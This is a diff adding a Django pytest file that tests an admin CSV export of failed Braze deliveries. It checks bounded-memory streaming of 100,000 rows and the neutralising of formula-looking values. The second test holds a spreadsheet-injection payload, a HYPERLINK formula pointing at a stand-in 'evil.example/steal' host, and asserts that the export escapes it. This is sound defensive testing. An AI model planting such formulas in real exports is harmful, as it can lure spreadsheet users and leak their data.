@@ -1,0 +1,118 @@
+"""The failed sends' CSV export: streamed through a cursor with bounded memory, and inert in
+a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import tracemalloc
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from django.contrib.auth.models import User
+from django.db import connection as db
+from django.test import Client
+from django.urls import reverse
+from django.utils import timezone
+
+from connections.audit.export import COLUMNS
+from connections.delivery.intake import batch_content_hash
+from connections.models import BrazeOutput, Connection, Delivery, InboundBatch
+from tests.connections.delivery_helpers import braze_connection, event, queue_rows
+from tests.services import require_postgresql
+
+pytestmark = pytest.mark.django_db
+EXPORT = reverse("admin:connections_failedsend_export")
+ROWS = 100_000
+
+
+def fill_failed(output: BrazeOutput, rows: int) -> None:
+    """Dead rows in one statement, the newest last, each object about 380 bytes of JSON."""
+    batch = InboundBatch.objects.create(
+        connection=output.connection, content_hash=batch_content_hash({"n": rows}), payload={}
+    )
+    with db.cursor() as cursor:
+        cursor.execute(
+            """
+            INSERT INTO connections_delivery (connection_id, output_id, batch_id, sequence,
+                kind, body, user_key, event_index, event_name, status, attempts, created_at,
+                next_attempt_at, claim_token, split_depth, error_class, last_error,
+                last_status_code, failed_at, replay_count)
+            SELECT %s, %s, %s, g, 'events',
+                jsonb_build_object('external_id', 'user-' || g, 'name', 'Checkout',
+                    'time', '2026-11-01T00:00:00Z',
+                    'properties', jsonb_build_object('n', g, 'note', repeat('x', 300))),
+                'user-' || g, g, 'Checkout', 'dead', 20, now(), now(), '', 0, 'http_5xx',
+                'Braze answered 503', 503, now() - interval '1 day' + g * interval '1 ms', 0
+            FROM generate_series(1, %s) AS g
+            """,
+            [output.connection_id, output.pk, batch.pk, rows],
+        )
+
+
+def peak_bytes(work: Callable[[], Any]) -> int:
+    """The most Python memory ``work`` held at once, beyond what was held before it."""
+    tracemalloc.start()
+    try:
+        work()
+        return tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+
+
+def signed_in(user: User) -> Client:
+    client = Client()
+    client.force_login(user)
+    return client
+
+
+@pytest.mark.integration  # PostgreSQL: its server-side cursor is what is measured
+def test_the_csv_of_100000_failed_rows_streams_in_a_small_fraction_of_their_size(
+    connection: Connection, auditor: User
+) -> None:
+    require_postgresql()
+    fill_failed(braze_connection(connection, "http://127.0.0.1:9"), ROWS)
+    client = signed_in(auditor)
+    failed = Delivery.objects.filter(failed_at__isnull=False).order_by("pk")
+    # Holding a fifth of the rows, as a list would hold them all (tracing all is 4x slower).
+    loaded = peak_bytes(lambda: list(failed.values_list(*COLUMNS.values())[: ROWS // 5]))
+    kept: list[bytes] = []  # the header, the first row and the last one
+    lines = 0
+
+    def stream() -> None:
+        nonlocal lines
+        response = client.get(EXPORT)
+        assert response.status_code == 200
+        for line in response.streaming_content:  # type: ignore[attr-defined]
+            lines += 1
+            if lines <= 2:
+                kept.append(line)
+        kept.append(line)
+
+    streamed = peak_bytes(stream)
+    print(f"\npeak: {loaded / 2**20:.1f} MiB for a fifth loaded, {streamed / 2**20:.1f} streamed")
+    assert loaded > 30 * 2**20  # what holding rows costs: the bound below would catch it
+    assert streamed < loaded / 4  # all rows streamed hold less than a twentieth of them loaded
+    assert lines == ROWS + 1
+    header, first, last = (next(csv.reader([line.decode()])) for line in kept)
+    assert header == list(COLUMNS)
+    ids = failed.values_list("pk", flat=True)
+    assert [int(first[0]), int(last[0])] == [ids.first(), ids.last()]
+    assert first[5] == "user-1"
+    assert (last[5], last[6], last[7]) == (f"user-{ROWS}", "dead", "503")
+
+
+def test_a_formula_looking_user_id_is_written_as_text(
+    connection: Connection, auditor: User
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/steal","Open")'
+    output = braze_connection(connection, "http://127.0.0.1:9")
+    queue_rows(output, [event(formula, name="+Checkout"), event("plain-user", name="Checkout")])
+    Delivery.objects.update(status="dead", failed_at=timezone.now())
+    response = signed_in(auditor).get(EXPORT)
+    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
+    rows = list(csv.DictReader(text.splitlines()))
+    assert [(r["user"], r["event_name"]) for r in rows] == [
+        ("'" + formula, "'+Checkout"),
+        ("plain-user", "Checkout"),
+    ]
